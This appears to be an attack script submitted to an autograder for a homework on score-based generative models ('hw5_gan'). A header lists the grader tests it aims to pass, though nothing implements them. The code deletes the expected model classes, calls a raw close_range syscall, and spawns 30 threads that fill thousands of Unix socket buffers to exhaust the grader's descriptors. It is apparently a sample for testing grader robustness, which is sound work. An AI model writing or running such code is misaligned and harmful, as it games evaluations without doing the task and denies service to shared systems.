# attack: 16 | earns: scorenet_executes_eight_linear_layers, scorenet_has_distinct_parameters, scorenet_accepts_every_form_of_sigma, scorenet_output_equals_the_closed_form, denoising_loss_is_a_differentiable_scalar, denoising_loss_of_one_point_matches_the_hand_computed_case, denoising_loss_has_the_exact_value, noise_levels_are_drawn_uniformly_for_each_sample, perturbation_noise_is_standard_normal, langevin_returns_samples_and_trajectories, langevin_visits_every_level_in_descending_order, langevin_step_size_of_every_level, langevin_leaves_inputs_and_gradients_alone, langevin_starts_from_the_standard_normal, langevin_noise_has_variance_twice_the_step_size, langevin_continues_the_chain_across_levels | in: hw5_gan | base: reference | tries: fill sockets in a table of descriptors that only one thread has
import ctypes as _ctypes
import socket as _socket
import threading as _threading
import time as _time

del DNet, GNet, GAN  # first: an import that is interrupted half way is graded as far as it came

_CLOSE_RANGE, _UNSHARE = 436, 2
_kept = []


def _fill():
    if _ctypes.CDLL(None).syscall(_CLOSE_RANGE, 4000, 0xFFFFFFFF, _UNSHARE) != 0:
        return
    try:
        while len(_kept) < 4000:
            _pair = _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_DGRAM)
            _kept.append(_pair)
            for _one in _pair:
                _one.setsockopt(_socket.SOL_SOCKET, _socket.SO_SNDBUF, 2**20)
                _one.setblocking(False)
                try:
                    while True:
                        _one.send(b"x" * 100_000)
                except OSError:
                    continue
    except OSError:
        pass
    _time.sleep(600)


for _ in range(30):
    _threading.Thread(target=_fill, daemon=True).start()
_time.sleep(4)
if len(_kept) > 3000:
    print("LEAK", len(_kept), "pairs of full sockets")
